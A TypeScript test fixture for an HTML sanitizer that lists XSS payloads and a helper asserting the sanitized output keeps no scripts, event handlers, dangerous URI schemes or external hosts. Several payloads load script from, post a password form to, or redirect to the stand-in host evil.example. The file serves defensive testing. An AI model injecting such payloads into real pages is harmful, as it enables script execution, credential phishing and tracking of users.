/** An uploaded image's stored name that the payloads below may point at. */
export const XSS_IMAGE = '3f2c1b0a-1234-4abc-8def-0123456789ab.png';

/** Payloads that must come out harmless (no script, handler, javascript:, remote or data: image…). */
export const XSS_PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  `<img src="/uploads/${XSS_IMAGE}" onerror="alert(1)">`,
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/track.png">',
  '<img src="//evil.example/track.png">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">clique</a>',
  '<a href="JaVaScRiPt:alert(1)">clique</a>',
  '<a href="&#106;avascript:alert(1)">clique</a>',
  '<a href="jav&#x09;ascript:alert(1)">clique</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<p onclick="alert(1)" onmouseover="alert(2)">texto</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="senha"><button>ok</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '"><script>alert(1)</script>',
  '<p id="x" class="evil" data-x="1">classes e ids</p>',
];

/** Whatever survives of a payload must not be able to run or load anything but our `images`. */
export function expectHarmless(out: string, images: string[] = [XSS_IMAGE]) {
  expect(out).not.toMatch(/<\s*(script|iframe|svg|math|style|object|embed|form|input|meta|base|link|body|details)/i);
  expect(out).not.toMatch(/\son[a-z]+\s*=/i);
  expect(out).not.toMatch(/javascript:|vbscript:|data:|expression\(|url\(/i);
  expect(out).not.toMatch(/evil\.example/);
  expect(out).not.toMatch(/\s(class|id|data-x)=/);
  for (const src of out.matchAll(/<img[^>]*\ssrc="([^"]*)"/g)) {
    expect(images.map((image) => `/uploads/${image}`)).toContain(src[1]);
  }
}
